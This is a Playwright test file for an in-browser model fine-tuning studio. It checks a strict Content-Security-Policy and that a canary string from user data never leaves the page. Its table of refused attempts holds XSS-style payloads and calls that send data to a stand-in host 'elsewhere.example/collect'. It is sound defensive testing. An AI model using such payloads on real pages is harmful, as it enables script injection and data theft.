/** What is opened on the page stays in it: its policy refuses what could carry it out, and nothing is sent. */

import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { unzipSync } from 'fflate';
import { HubServer } from './hub-server.js';
import { Recorder } from './recorder.js';
import { Studio, expect, test, tinyModel } from './studio.js';

/** Whom the browser speaks to of its own accord. The page's policy lets it reach none of them. */
const OF_THE_BROWSER = /^(https?:\/\/)?([\w-]+\.googleapis\.com|accounts\.google\.com|[\w.-]+\.gvt1\.com)[:/]/;
const REPO = 'HuggingFaceTB/SmolLM2-135M-Instruct';

test.describe('the policy', () => {
  test('says no more than it must', async ({ page }) => {
    const response = await page.goto('/');
    const headers = response?.headers() ?? {};
    const policy = Object.fromEntries((headers['content-security-policy'] ?? '').split('; ').map((part) => part.split(/ (.*)/)));
    expect(policy).toMatchObject({
      'default-src': "'none'",
      'script-src': "'self' 'wasm-unsafe-eval'",
      'worker-src': "'self'",
      'base-uri': "'none'",
      'form-action': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': 'default',
    });
    expect(headers).not.toHaveProperty('cross-origin-opener-policy');
    expect(headers).not.toHaveProperty('cross-origin-embedder-policy');
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    // The same for hosts that send none, before anything that it is to hold for.
    const first = page.locator('head > *').first();
    await expect(first).toHaveAttribute('content', headers['content-security-policy'] ?? '');
  });

  const elsewhere = 'https://elsewhere.example/collect';
  /** Chromium connects ahead of the policy's word where it would navigate, but asks nothing; of http a request is seen. */
  const seen = 'http://elsewhere.example/collect';
  const refusals: Record<string, { attempt: string; directive: RegExp }> = {
    'an inline script': { attempt: `const script = document.createElement('script'); script.textContent = 'ran()'; document.head.append(script)`, directive: /trusted-types|script-src/ },
    'a script of another server': { attempt: `const script = document.createElement('script'); script.src = '${elsewhere}.js'; document.head.append(script)`, directive: /trusted-types|script-src/ },
    'a script that text names': { attempt: `const script = document.createElement('script'); script.src = '/service-worker.txt'; document.head.append(script)`, directive: /trusted-types/ },
    'markup from text': { attempt: `document.body.innerHTML = '<img src=x onerror=ran()>'`, directive: /trusted-types/ },
    'an event handler from text': { attempt: `document.body.setAttribute('onclick', 'ran()'); document.body.click()`, directive: /trusted-types|script-src/ },
    eval: { attempt: `eval('ran()')`, directive: /trusted-types|script-src/ },
    'a function from text': { attempt: `new Function('ran()')()`, directive: /trusted-types|script-src/ },
    'a worker from a blob': { attempt: `new Worker(URL.createObjectURL(new Blob(['postMessage(0)']))).onmessage = ran`, directive: /trusted-types|worker-src/ },
    'fetch elsewhere': { attempt: `void fetch('${elsewhere}').then(ran, () => 0)`, directive: /connect-src/ },
    'a beacon': { attempt: `navigator.sendBeacon('${elsewhere}', 'text')`, directive: /connect-src/ },
    'a socket': { attempt: `new WebSocket('wss://elsewhere.example')`, directive: /connect-src/ },
    'an image elsewhere': { attempt: `new Image().src = '${elsewhere}.png'`, directive: /img-src/ },
    'a style elsewhere': { attempt: `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '${elsewhere}.css'; document.head.append(link)`, directive: /style-src/ },
    'a frame': { attempt: `const frame = document.createElement('iframe'); frame.src = '${seen}'; document.body.append(frame)`, directive: /frame-src/ },
    'a form': { attempt: `const form = document.createElement('form'); form.action = '${seen}'; document.body.append(form); form.submit()`, directive: /form-action/ },
    'another base': { attempt: `const base = document.createElement('base'); base.href = '${elsewhere}'; document.head.append(base)`, directive: /base-uri/ },
  };

  test('refuses whatever could run or carry text', async ({ playwright, launchOptions, baseURL }) => {
    const recorder = await Recorder.start();
    const browser = await playwright.chromium.launch({ ...launchOptions, proxy: recorder.proxy });
    try {
      const page = await browser.newPage({ baseURL: baseURL ?? '' });
      await page.addInitScript(watch);
      await page.goto('/');
      await expect(page.locator('#device')).not.toHaveAttribute('data-state', 'waiting');
      expect(await heard(page)).toEqual([]);
      for (const [at, [name, { attempt, directive }]] of Object.entries(refusals).entries()) {
        // As a file of the page's own, since what the test itself runs there is outside the policy.
        await page.route(`**/attempt-${at}.js`, (route) => route.fulfill({ contentType: 'text/javascript', body: attempt }));
        await page.evaluate(async (at) => {
          refused.length = 0;
          Object.assign(globalThis, { ran: () => refused.push('it ran') });
          await import(`/attempt-${at}.js`).catch(() => undefined);
        }, at);
        await expect(async () => expect((await heard(page)).join(), name).toMatch(directive)).toPass({ timeout: 5000 });
        expect(await heard(page), name).not.toContain('it ran');
      }
      expect(recorder.sent.length).toBeGreaterThan(0);
      expect(recorder.sent.filter(({ url }) => url.includes('elsewhere'))).toEqual([]);
    } finally {
      await browser.close();
      recorder.close();
    }
  });

  test('the worker is held to it as well', async ({ studio, page }) => {
    const told = page.waitForEvent('console', (message) => message.text().startsWith('attempts:'));
    await studio.openWith(`
      const refused = [];
      for (const [name, attempt] of Object.entries({
        eval: () => eval('1'),
        Function: () => new Function('return 1')(),
        worker: () => new Worker(URL.createObjectURL(new Blob(['']))),
      })) try { attempt(); } catch { refused.push(name); }
      fetch('http://elsewhere.example/').catch(() => refused.push('fetch')).finally(() => console.log('attempts: ' + refused));
    `);
    expect((await told).text()).toBe('attempts: eval,Function,worker,fetch');
    await studio.loadModel();
  });
});

test('once the model is loaded nothing is sent, and nothing of a person’s ever', async ({ playwright, launchOptions, baseURL }) => {
  const mark = 'canary-7b1f';
  const recorder = await Recorder.start();
  const hub = await HubServer.start();
  hub.add(REPO, await tinyModel(), { license: 'apache-2.0' });
  const browser = await playwright.chromium.launch({ ...launchOptions, proxy: recorder.proxy });
  try {
    const context = await browser.newContext({ baseURL: baseURL ?? '', serviceWorkers: 'allow' });
    const page = await context.newPage();
    const studio = new Studio(page, async () => '');
    const said: string[] = [];
    context.on('console', (message) => said.push(message.text()));
    await page.addInitScript(watch);

    await page.goto(`/?hub=${hub.endpoint}`);
    await studio.showModels();
    await studio.get('#hub > summary').click();
    await page.fill('#hub-name', REPO);
    await page.keyboard.press('Enter');
    await studio.get('#hub-download').click();
    await expect(studio.get('#model-ready')).toBeVisible();
    await page.evaluate(async () => void (await navigator.serviceWorker.ready));
    expect(recorder.sent.length).toBeGreaterThan(8);
    const loaded = recorder.sent.filter(({ url }) => !OF_THE_BROWSER.test(url)).length;

    const lines = ['Hi', 'Hey'].map((prompt) => JSON.stringify({ prompt: `${prompt} ${mark}`, completion: ` Ahoy ${mark}` }));
    await page.setInputFiles('#data-file', { name: `${mark}.jsonl`, mimeType: 'application/jsonl', buffer: Buffer.from(lines.join('\n')) });
    await expect(studio.get('#data-ready')).toBeVisible();
    await studio.unfold();
    await studio.set({ steps: '5000', samplePrompts: `What is ${mark}?` });
    await studio.get('#train-start').click();
    await expect(studio.get('#train-status')).toContainText(/Step \d+ of 5000/, { timeout: 90_000 });

    // Closed in the middle, opened again, and gone on with.
    await page.goto(`/?hub=${hub.endpoint}`);
    await expect(studio.get('#runs-cut-text')).toContainText(mark);
    await expect(studio.get('#device')).toHaveAttribute('data-state', 'software');
    await studio.get('#runs-cut-resume').click();
    await expect(studio.get('#train-steps tr').nth(2)).toBeAttached({ timeout: 90_000 });
    await studio.get('#train-stop').click();
    await expect(studio.get('#train-status')).toContainText('Stopped after');

    await studio.ask(`Who is ${mark}?`);
    await studio.get('#tab-export').click();
    await page.fill('#keep-name', `my ${mark}`);
    const zip = unzipSync(await readFile(await studio.download('#keep-download')));
    expect(Buffer.from(zip['README.md'] ?? []).toString()).toContain(mark);
    await studio.download('#keep-script');
    await studio.get('#runs-open').click();
    await studio.download('#runs-list button:has-text("Download all")');

    // The browser asks whether there is another build whenever the page is opened; that is all.
    const ours = recorder.sent.filter(({ url }) => !OF_THE_BROWSER.test(url));
    const after = ours.slice(loaded).map(({ method, url }) => `${method} ${url.replace(baseURL ?? '', '')}`);
    expect(new Set(after)).toEqual(new Set(['GET /service-worker.js', 'HEAD /models/SmolLM2-135M-Instruct.Q4_1.gguf']));
    expect(recorder.sent.filter(({ text }) => text.toLowerCase().includes('canary'))).toEqual([]);
    expect(ours.filter(({ method }) => !['GET', 'HEAD', 'OPTIONS'].includes(method))).toEqual([]);
    expect(said.filter((text) => text.includes(mark))).toEqual([]);
    expect(await heard(page)).toEqual([]);
    // What the service worker keeps is the build.
    const kept = await page.evaluate(async () => {
      const texts: string[] = [];
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) texts.push(request.url, (await (await cache.match(request))?.text()) ?? '');
      }
      return texts;
    });
    expect(kept.length).toBeGreaterThan(10);
    expect(kept.filter((text) => text.includes(mark))).toEqual([]);
  } finally {
    await browser.close();
    recorder.close();
    hub.stop();
  }
});

/** What {@link watch} keeps in the page. */
declare const refused: string[];

/** Runs in the page: keeps what its policy refuses. */
function watch(): void {
  const refused: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void refused.push(effectiveDirective));
  Object.assign(globalThis, { refused });
}

/** What was refused since the page was opened. */
async function heard(page: Page): Promise<string[]> {
  return page.evaluate(() => refused);
}
